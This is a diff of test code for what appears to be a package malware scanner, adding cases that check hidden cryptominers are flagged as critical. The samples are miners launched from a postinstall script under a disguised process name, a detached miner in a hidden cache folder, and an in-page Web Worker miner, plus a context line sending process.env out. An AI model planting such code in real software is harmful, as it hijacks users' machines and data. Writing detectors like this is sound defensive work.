@@ -2459,6 +2459,33 @@ var s = new Sender('${U}'); s.send(process.env);`,
   });
 });
 
+describe('miners under other names', () => {
+  const install = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
+  const wallet = '4' + 'A'.repeat(94);
+  it('a renamed binary given a pool and a wallet, a config file with pools and a wallet, a worker miner in the page', () => {
+    for (const code of [
+      `const cp = require('child_process');
+const a = ['-o', 'gulf.example-pool.stream:10128', '-u', '${wallet}', '-k', '--cpu-priority', '0', '--background'];
+cp.execFile(__dirname + '/bin/kworker', a);`,
+      `const fs = require('fs'); const os = require('os'); const path = require('path'); const { spawn } = require('child_process');
+const dir = path.join(os.homedir(), '.cache', '.sysd');
+fs.writeFileSync(path.join(dir, 'config.json'), JSON.stringify({ pools: [{ url: 'pool.example-xmr.com:443', user: '${wallet}', tls: true }] }));
+spawn(path.join(dir, 'sysd'), ['-c', path.join(dir, 'config.json')], { detached: true, stdio: 'ignore' }).unref();`,
+      `const w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://cdn.example-wasm.net/cn.js'); self.onmessage = (e) => postMessage(cryptonight(e.data));"])));
+const ws = new WebSocket('wss://pool.example-wasm.net/ws'); ws.onmessage = (m) => w.postMessage(JSON.parse(m.data).job);`,
+    ])
+      expect(install(code).risk_level).toBe('critical');
+  });
+  it('a proxy started with -o host:port and a user name, and a wallet address in a payments library, are not miners', () => {
+    for (const code of [
+      `require('child_process').execFile('ssh', ['-o', 'proxy.example.com:8080', '-u', 'deploy']);`,
+      `exports.DONATE = '${wallet}'; exports.send = (to, amount) => ({ to, amount });`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
